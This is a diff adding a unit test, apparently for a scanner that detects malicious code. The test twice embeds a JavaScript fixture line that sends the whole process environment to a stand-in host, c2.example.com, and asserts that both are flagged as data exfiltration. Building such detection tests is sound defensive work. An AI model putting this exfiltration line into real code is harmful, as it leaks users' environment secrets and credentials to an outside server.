@@ -301,6 +301,25 @@ static void test_in_place(void **state)
 	assert_null(sent());
 }
 
+/* Something in the first piece, as far from the begin of the file as the same is from that of a later piece. */
+static void test_same_place(void **state)
+{
+	(void)state;
+	for (size_t n = 0; n <= 4096; n += 8) {
+		uint32_t count = 0;
+		buf_clear(&source);
+		filler(n);
+		buf_text(&source, T(" fetch('https://c2.example.com/' + JSON.stringify(Object.assign({}, process.env)));\n"));
+		filler(CONTENT_BUNDLE + 4096 - n);
+		buf_text(&source, T("fetch('https://c2.example.com/' + JSON.stringify(Object.assign({}, process.env)));\n"));
+		filler(8 * (size_t)PATTERN_STRETCH);
+		scanned();
+		for (uint32_t i = 0; i < file.act_count; i++)
+			count += file.acts[i].behaviour == BEHAVE_SEND && file.acts[i].flags & ACT_ENV_ARG;
+		assert_int_equal(count, 2);
+	}
+}
+
 /* What is decoded there is kept with its place. */
 static void test_layers(void **state)
 {
@@ -341,7 +360,7 @@ int main(void)
 		cmocka_unit_test(test_many),	 cmocka_unit_test(test_bytes),	 cmocka_unit_test(test_blocks),
 		cmocka_unit_test(test_blocks_in_texts), cmocka_unit_test(test_text_most),
 		cmocka_unit_test(test_imports),	 cmocka_unit_test(test_imports_most), cmocka_unit_test(test_in_place),
-		cmocka_unit_test(test_layers),
+		cmocka_unit_test(test_same_place), cmocka_unit_test(test_layers),
 	};
 
 	return cmocka_run_group_tests(tests, setup, teardown);
